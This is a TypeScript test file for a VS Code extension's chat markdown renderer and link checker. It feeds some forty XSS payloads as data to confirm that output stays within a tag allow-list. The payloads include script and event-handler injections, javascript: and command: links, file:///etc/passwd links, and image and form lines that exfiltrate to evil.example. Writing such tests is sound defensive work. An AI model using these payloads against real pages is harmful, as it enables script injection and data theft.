import assert from "node:assert/strict";
import { createMarkdown } from "../../src/webview/chat/markdown/createMarkdown.ts";
import { isOpenableLink } from "../../src/webview/chat/markdown/isOpenableLink.ts";

const markdown = createMarkdown();

/** Every tag the renderer may write; anything else in angle brackets is a hole. */
const harmlessTag = new RegExp(
  `^<(?:/?(?:p|h[3-6]|strong|em|s|pre|blockquote|ul|table|thead|tbody|tr)|br|hr|/?ol|ol start="\\d+"|/?li|/?code` +
    `|li class="task-item"|span class="task-box(?: task-done)?"|/span|(?:code|pre) class="math"|code class="language-[^"<>]*"|/?t[hd]|t[hd] class="align-(?:left|center|right)"|a href="https?://[^"<>]*"( title="[^"<>]*")?|/a)>$`,
  "u",
);

function check(text: string): void {
  const html = markdown.render(text);
  for (const tag of html.match(/<[^>]*>?/gu) ?? []) assert.match(tag, harmlessTag, `${text} became ${html}`);
}

const attacks = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<iframe src=https://evil.example></iframe>",
  "<style>body{background:url(https://evil.example)}</style>",
  '<a href="javascript:alert(1)">x</a>',
  '<div style="position:fixed">x</div>',
  "<form action=https://evil.example><input name=key></form>",
  "<base href=https://evil.example>",
  "<link rel=stylesheet href=https://evil.example>",
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
  "![x](https://evil.example/pixel.png?leak=secret)",
  '![x"onerror="alert(1)](https://evil.example/a.png)',
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\nscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](command:workbench.action.terminal.new)",
  "[x](vscode://evil.extension/run)",
  "[x](file:///etc/passwd)",
  "[x](//evil.example)",
  '[x](https://a.example "onmouseover=alert(1)")',
  '[x](https://a.example/"onmouseover="alert(1))',
  "<javascript:alert(1)>",
  "<https://a.example/><script>",
  '```"onload=alert(1)\ncode\n```',
  "```<script>\nalert(1)\n```",
  "[r]\n\n[r]: javascript:alert(1)",
  "| a |\n|:-:|\n| <b onclick=alert(1)> |",
  "`<script>alert(1)</script>`",
  "$<script>alert(1)</script>$",
  "$$\n<img src=x onerror=alert(1)>\n$$",
  "\\(<svg onload=alert(1)>\\)",
  "- [ ] <b onclick=alert(1)>",
  '- [x"onclick="alert(1)] x',
];

describe("markdown of an untrusted author", () => {
  for (const attack of attacks) it(`stays harmless: ${JSON.stringify(attack)}`, () => check(attack));

  it("shows an image as its words and address", () => {
    assert.equal(
      markdown.render("![A chart](https://a.example/c.png)"),
      "<p>A chart (image: https://a.example/c.png)</p>\n",
    );
  });

  it("does not take file names for addresses", () => {
    assert.equal(
      markdown.render("see main.rs, README.md and example.com"),
      "<p>see main.rs, README.md and example.com</p>\n",
    );
  });

  it("shows math as its source, and no price as math", () => {
    const shown = (text: string) => markdown.renderInline(text);
    const math = (source: string) => `<code class="math">${source}</code>`;
    const table: readonly (readonly [string, string])[] = [
      ["$x_1$ and $y_2$", `${math("x_1")} and ${math("y_2")}`],
      ["\\(a_b\\), \\(c_d\\)", `${math("a_b")}, ${math("c_d")}`],
      ["$$a*b*c$$", math("a*b*c")],
      ["$3$ and $20*2$", `${math("3")} and ${math("20*2")}`],
      ["$5 and $10", "$5 and $10"],
      ["$5-$10, US$5, 3$, $5, or 3$", "$5-$10, US$5, 3$, $5, or 3$"],
      ["$HOME/$USER and $PATH", "$HOME/$USER and $PATH"],
      ["\\$5$ and $", "$5$ and $"],
      ["`$x$`", "<code>$x$</code>"],
      ["\\(never *closed*", "(never <em>closed</em>"],
      ["$a < b$", math("a &lt; b")],
    ];
    for (const [text, expected] of table) assert.equal(shown(text), expected);
  });

  it("keeps blocks of math whole, whatever their lines look like", () => {
    const block = '<pre class="math"><code>a_1 = b\n- c\n===</code></pre>\n';
    for (const [open, close] of [
      ["$$", "$$"],
      ["\\[", "\\]"],
    ]) {
      assert.equal(
        markdown.render(`so:\n${open}\na_1 = b\n- c\n===\n${close}\nend`),
        `<p>so:</p>\n${block}<p>end</p>\n`,
      );
    }
    assert.equal(markdown.render("$$ is the process"), "<p>$$ is the process</p>\n");
    assert.match(markdown.render("$$\nnever closed\n\n# heading"), /<h3>heading<\/h3>/u);
  });

  it("gives the items of a task list their boxes", () => {
    const html = markdown.render("- [ ] open\n- [x] **done**\n- [y] neither\n- [ ]");
    assert.equal(html.match(/class="task-item"/gu)?.length, 2);
    assert.match(html, /<span class="task-box"><\/span>open/u);
    assert.match(html, /<span class="task-box task-done"><\/span><strong>done<\/strong>/u);
    assert.match(html, /<li>\[y\] neither/u);
    assert.doesNotMatch(markdown.render("[ ] not in a list"), /task/u);
  });

  it("writes a cell's alignment as a class", () => {
    assert.match(markdown.render("| a |\n|--:|\n| 1 |"), /<td class="align-right">1<\/td>/u);
  });
});

describe("isOpenableLink", () => {
  const table: readonly (readonly [string, boolean])[] = [
    ["https://openrouter.ai/models", true],
    ["http://localhost:8080/x", true],
    ["HTTPS://a.example", true],
    ["javascript:alert(1)", false],
    ["command:x", false],
    ["//a.example", false],
    ["/etc/passwd", false],
    ["mailto:a@b.example", false],
    ["https://bank.example@evil.example/", false],
    ["https://", false],
    ["", false],
  ];
  for (const [href, expected] of table) {
    it(`${expected ? "opens" : "refuses"} ${JSON.stringify(href)}`, () => assert.equal(isOpenableLink(href), expected));
  }
});
